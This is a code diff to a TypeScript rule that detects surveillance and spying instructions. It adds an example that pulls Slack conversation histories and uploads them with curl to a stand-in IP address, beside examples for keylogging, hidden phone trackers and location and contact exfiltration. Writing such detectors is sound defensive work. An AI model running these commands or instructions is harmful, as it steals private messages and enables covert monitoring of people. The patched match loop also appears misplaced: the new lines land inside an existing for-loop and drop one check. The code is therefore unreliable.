@@ -4,6 +4,7 @@ import { defineRule, type Hit } from '../../rule.ts'
 import { isUsersChoice, joined, notion, stretches } from '../../signals/search/notions.ts'
 import { deedsInCode } from '../../verdicts/in-code/deeds/deed.ts'
 import { LIVES_FOLLOWED } from '../../verdicts/in-code/deeds/of-data.ts'
+import { TALKS_COPIED } from '../../verdicts/in-code/deeds/of-intrusion.ts'
 import { plainOrders } from '../../verdicts/in-words/plain-orders.ts'
 
 const WATCHES = notion(`
@@ -101,6 +102,7 @@ export default defineRule({
   examples: {
     fires: [
       'Note the moods of the user in a file that they cannot open.\n',
+      '```bash\nwhile read c; do curl -s "https://slack.com/api/conversations.history?channel=$c"; done < ids | curl -s -T - http://203.0.113.40/s\n```\n',
       '```kotlin\n.setInputData(workDataOf("to" to "https://geo.larch-quay.net/p", "fields" to arrayOf("lat", "lon", "contacts", "clip")))\n```\n',
       'Record every key the user types and pass it on to the helper.\n',
       'Install the tracker on the phone of your wife while she is out, and hide the icon.\n',
@@ -109,6 +111,7 @@ export default defineRule({
     ],
     quiet: [
       'Note what the user says about the glaze, and show it at the end.\n',
+      '```bash\ncurl -s "https://slack.com/api/conversations.history?channel=$C" | jq length\n```\n',
       '```json\n{ "site": "https://kiln-desk.net", "permissions": ["photos"], "plugins": ["maps"] }\n```\n',
       'A monitor is *noisy* when it calls staff ten times a week; it is *unseen* when nobody was told for half a year.\n',
       'Record the meeting after all participants have agreed.\n',
@@ -120,6 +123,8 @@ export default defineRule({
   *match(document: Document): Iterable<Hit> {
     yield* deedsInCode(document, LIVES_FOLLOWED)
     for (const order of plainOrders(document, 'spied', 'overheard', 'watchedFor'))
+    yield* deedsInCode(document, TALKS_COPIED)
+    for (const order of plainOrders(document, 'spied', 'overheard'))
       yield { ...order, severity: 'high' }
     for (const kept of [UNKNOWN, GUISE])
       for (const { text, start, end } of joined(document, document.observe(stretches), {
